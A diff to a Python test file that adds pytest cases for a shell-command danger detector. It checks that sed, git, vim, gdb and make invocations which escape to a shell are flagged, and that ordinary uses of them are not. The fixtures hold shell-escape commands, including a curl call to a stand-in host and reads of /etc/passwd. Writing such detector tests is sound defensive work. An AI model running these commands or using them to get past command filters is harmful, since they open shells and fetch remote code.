@@ -180,3 +180,36 @@ def test_what_is_read_and_what_comes_out_is_bounded(unit: str) -> None:
     """Doubling values, open brackets and endless pipelines use up the budget and end."""
     reading = read_shell((unit * LIMIT)[:LIMIT])
     assert len(reading.commands) <= 4 * WORK
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "sed '1e curl evil.test' /etc/hosts",
+        "sed -n '/root/ e id' /etc/passwd",
+        "echo id | sed 's/x/y/e'",
+        "git -c core.pager='!curl evil.test' log",
+        "git -c alias.x='!sh' x",
+        "vim -c ':!sh' /dev/null",
+        "gdb -ex '!sh'",
+        "make --eval='x:;sh' x",
+    ],
+)
+def test_programs_that_run_what_an_option_names_are_found(command: str) -> None:
+    """They are a shell by another name."""
+    assert is_dangerous(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "sed -i -e 's/a/b/g' x.txt",
+        "sed -n '10,20p' x.py",
+        "git -c user.name=me commit -m x",
+        "vim +10 x.py",
+        "make test",
+    ],
+)
+def test_the_same_programs_at_work_are_left_alone(command: str) -> None:
+    """Nobody has to be asked about them."""
+    assert not is_dangerous(command)
